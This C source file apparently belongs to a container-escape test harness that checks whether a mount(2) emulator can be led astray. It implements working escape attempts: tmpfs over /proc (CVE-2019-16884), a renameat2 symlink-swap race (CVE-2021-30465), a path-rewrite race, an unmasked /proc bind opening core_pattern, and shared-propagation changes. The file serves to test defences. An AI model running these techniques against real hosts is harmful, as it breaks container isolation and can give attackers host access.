/* Mounts by which somebody who answers mount(2) in the kernel's place would be led astray: what is looked at and what is acted upon are not
 * one, or the answer changes what is there already. An escape is a /proc that the container has covered, or one without its walls: whoever
 * joins the container from outside writes to what is there. */
#include "attack.h"
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/vfs.h>
#include <unistd.h>

#define PROC_MAGIC 0x9fa0
#define ROUNDS 2000
/* On a busy machine who changes may not have run once in as many rounds. */
#define CHANGES 20000
#define PLACE "/tmp/emulated"
#define LINK "/tmp/covered"

/* Whether /proc is something else now; makes it what it was. */
static int is_covered(void) {
    struct statfs about;
    if (statfs("/proc", &about) == 0 && about.f_type == PROC_MAGIC)
        return 0;
    umount2("/proc", MNT_DETACH);
    return 1;
}

/* The runtime writes to files of /proc when it joins: a false one takes its words. CVE-2019-16884. */
static struct finding cover(void) {
    int error = 0;
    static const char *const TARGETS[] = { "/proc", "/proc/self", "/tmp/../proc", "/proc/1/root/proc", "/dev/fd/../../../proc" };
    for (size_t index = 0; index < sizeof TARGETS / sizeof *TARGETS; index++) {
        if (mount("none", TARGETS[index], "tmpfs", 0, NULL) != 0)
            error = errno;
        else if (is_covered() || umount2(TARGETS[index], MNT_DETACH) == 0)
            return escaped(TARGETS[index]);
    }
    errno = error;
    return held("");
}

static atomic_int stops, changes;

/* Mounts again and again what somebody changes meanwhile. */
static struct finding race(const char *target, const char *kind, void *(*change)(void *)) {
    pthread_t changer;
    int error = 0, covered = 0;
    mkdir(PLACE, 0700);
    if (pthread_create(&changer, NULL, change, NULL) != 0)
        return held("pthread_create");
    for (int round = 0; !covered && (round < ROUNDS || (round < 20 * ROUNDS && changes < CHANGES)); round++) {
        sched_yield();
        if (mount("none", target, kind, 0, NULL) != 0) {
            if (errno != ENOENT && errno != ENODEV && errno != EBUSY)
                error = errno;
            continue;
        }
        covered = is_covered();
        umount2(PLACE, MNT_DETACH | UMOUNT_NOFOLLOW);
    }
    stops = 1;
    pthread_join(changer, NULL);
    unlink(LINK);
    umount2(PLACE, MNT_DETACH | UMOUNT_NOFOLLOW);
    rmdir(PLACE);
    if (covered)
        return escaped("/proc is covered");
    errno = error;
    return held("");
}

/* The target's last part is a directory, or a link to /proc: CVE-2021-30465. */
static void *exchange(void *unused) {
    (void)unused;
    symlink("/proc", LINK);
    while (!stops)
        changes += syscall(SYS_renameat2, AT_FDCWD, LINK, AT_FDCWD, PLACE, 2 /* RENAME_EXCHANGE */) == 0;
    /* What is the directory has its name again. */
    struct stat about;
    if (lstat(PLACE, &about) == 0 && S_ISLNK(about.st_mode))
        syscall(SYS_renameat2, AT_FDCWD, LINK, AT_FDCWD, PLACE, 2);
    return NULL;
}

static struct finding through_a_link(void) {
    stops = changes = 0;
    return race(PLACE, "tmpfs", exchange);
}

/* The words themselves change between two looks at them: seccomp_unotify(2), "Design goals". */
static char words[32] = PLACE;

static void put(const char *text) {
    volatile char *to = words;
    do
        *to++ = *text;
    while (*text++);
    for (int wait = 0; wait < 1000; wait++)
        atomic_signal_fence(memory_order_seq_cst);
}

static void *rewrite(void *unused) {
    (void)unused;
    while (!stops) {
        put("/proc");
        put(PLACE);
        changes++;
    }
    return NULL;
}

static struct finding by_other_words(void) {
    stops = changes = 0;
    return race(words, "tmpfs", rewrite);
}

/* What is there already: a mask that is left behind by a copy without what covers it, and what is mounted here that others get. */
static struct finding bind_without_masks(void) {
    mkdir(PLACE, 0700);
    if (mount("/proc", PLACE, NULL, MS_BIND, NULL) != 0)
        return held("mount");
    int file = open(PLACE "/sys/kernel/core_pattern", O_WRONLY | O_CLOEXEC);
    if (file >= 0)
        close(file);
    umount2(PLACE, MNT_DETACH | UMOUNT_NOFOLLOW);
    return file >= 0 ? escaped("a parameter opens for writing") : held("open");
}

static struct finding make_shared(void) {
    if (mount(NULL, "/", NULL, MS_REC | MS_SHARED, NULL) != 0)
        return held("mount");
    mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
    return inside("what is mounted here others get");
}

const struct attack emulated_attacks[] = {
    { "cover-proc", cover },
    { "cover-through-link", through_a_link },
    { "cover-by-other-words", by_other_words },
    { "bind-without-masks", bind_without_masks },
    { "make-shared", make_shared },
    { 0 },
};
